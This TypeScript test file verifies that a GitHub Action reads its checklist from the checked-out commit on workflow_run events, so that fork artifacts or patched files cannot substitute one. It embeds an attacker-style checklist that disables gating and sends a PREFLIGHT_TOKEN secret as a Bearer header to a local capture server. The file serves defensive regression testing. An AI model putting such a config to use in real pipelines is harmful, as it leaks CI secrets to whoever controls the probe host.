// QA stop 50 review B1: on an event whose workflow runs from GITHUB_SHA with the repository's secrets (workflow_run,
// issue_comment…), a checkout of GITHUB_SHA itself vouches for the checklist it commits, not for files a later step puts in
// the working tree: a fork's build artifact downloaded into `pr/` and scanned with `working-directory: pr`, or a patch
// applied over `.github/preflight.yml`. Those chose the checklist (fail-on: none, probes sending PREFLIGHT_* secrets to a
// host of the pull request's choosing). The checklist, baseline and CA file are now read from the checked-out commit.
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startFakeGitHub, type FakeGitHub } from './fake-github.js';
import { TOKEN, pushPayload } from './fixtures.js';
import { BUNDLE, makeRepo, runAction } from './run-action.js';

const CANARY = 'pf-canary-worktree-50QRS';
const COMMITTED = 'version: 1\nfail-on: high\nitems:\n  - { id: pinned, check: image-tag-pinned }\n';
let gh: FakeGitHub;
let capture: http.Server;
let evil: string;
const captured: string[] = [];

beforeAll(async () => {
  if (!fs.existsSync(BUNDLE)) throw new Error(`${BUNDLE} is missing: run \`npm run bundle\` first`);
  gh = await startFakeGitHub({ token: TOKEN });
  capture = http.createServer((req, res) => { captured.push(String(req.headers.authorization)); res.end('ok'); });
  await new Promise<void>((resolve) => capture.listen(0, '127.0.0.1', resolve));
  evil = `version: 1\nfail-on: none\nprobes:\n  url: http://127.0.0.1:${(capture.address() as AddressInfo).port}\n  headers: { Authorization: "Bearer \${PREFLIGHT_TOKEN}" }\nitems:\n  - { id: health, check: health-endpoint }\n`;
});
afterAll(async () => {
  await gh?.close();
  await new Promise<void>((resolve) => (capture ? capture.close(() => resolve()) : resolve()));
});
beforeEach(() => { gh.reset(); captured.length = 0; });

const repository = pushPayload({ after: 'a'.repeat(40) }).repository;
const workflowRun = (headSha: string) => ({
  action: 'completed',
  workflow_run: { id: 111, name: 'CI', event: 'pull_request', status: 'completed', conclusion: 'success', head_sha: headSha, head_branch: 'evil', pull_requests: [], head_repository: { full_name: 'mallory/shop' }, repository },
  repository,
  sender: { login: 'mallory', id: 5, type: 'User' },
});
const run = (event: string, workspace: string, sha: string, inputs: Record<string, string> = {}) => runAction({
  event, payload: event === 'push' ? pushPayload({ after: sha }) : workflowRun(sha), workspace, sha, apiUrl: gh.url, token: TOKEN, inputs,
  env: { GITHUB_REF: 'refs/heads/main', PREFLIGHT_TOKEN: CANARY },
});

describe('workflow_run with GITHUB_SHA checked out: files added or changed after the checkout do not choose the checklist', () => {
  it('an artifact downloaded into pr/ and scanned with working-directory: pr', async () => {
    const repo = makeRepo({ '.github/preflight.yml': COMMITTED, Dockerfile: 'FROM python:latest\n' });
    fs.mkdirSync(path.join(repo.dir, 'pr/.github'), { recursive: true });
    fs.writeFileSync(path.join(repo.dir, 'pr/.github/preflight.yml'), evil);
    fs.writeFileSync(path.join(repo.dir, 'pr/Dockerfile'), 'FROM python:latest\n');
    const r = await run('workflow_run', repo.dir, repo.sha, { 'working-directory': 'pr' });
    expect(captured).toEqual([]);
    expect(r.visibleStdout).not.toContain(CANARY);
    expect(r.report!.failOn).not.toBe('none');
    expect(r.report!.items.map((i: { id: string }) => i.id)).not.toContain('health');
    // Not in the commit: the built-in preset gates, as on pull_request_target (a debug line names the rule).
    expect(r.report!.failOn).toBe('critical');
    expect(r.stdout).toContain('read from the checked-out commit');
  });

  it('a patch applied over the committed .github/preflight.yml', async () => {
    const repo = makeRepo({ '.github/preflight.yml': COMMITTED, Dockerfile: 'FROM python:latest\n' });
    fs.writeFileSync(path.join(repo.dir, '.github/preflight.yml'), evil);
    const r = await run('workflow_run', repo.dir, repo.sha);
    expect(captured).toEqual([]);
    expect(r.report!.failOn).toBe('high');
    expect(r.report!.items.map((i: { id: string }) => i.id)).toEqual(['pinned']);
    expect(r.code).toBe(1);
  });
});

describe('lookalikes that keep the working tree\'s files', () => {
  it('a checklist the workflow names outside the repository (an organisation checklist fetched into the runner\'s temp)', async () => {
    const repo = makeRepo({ '.github/preflight.yml': COMMITTED, Dockerfile: 'FROM python:latest\n' });
    const org = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'pf-org50-')), 'org.yml');
    fs.writeFileSync(org, 'version: 1\nfail-on: critical\nitems:\n  - { id: pinned, check: image-tag-pinned, severity: critical }\n');
    const r = await run('workflow_run', repo.dir, repo.sha, { checklist: org });
    expect(r.report!.failOn).toBe('critical');
    expect(r.report!.items[0]).toMatchObject({ id: 'pinned', severity: 'critical' });
  });

  it('push (the workflow is the pushed commit\'s own): an edited checklist in the working tree is read', async () => {
    const repo = makeRepo({ '.github/preflight.yml': COMMITTED, Dockerfile: 'FROM python:latest\n' });
    fs.writeFileSync(path.join(repo.dir, '.github/preflight.yml'), 'version: 1\nfail-on: none\nitems:\n  - { id: pinned, check: image-tag-pinned }\n');
    const r = await run('push', repo.dir, repo.sha);
    expect(r.report!.failOn).toBe('none');
  });
});
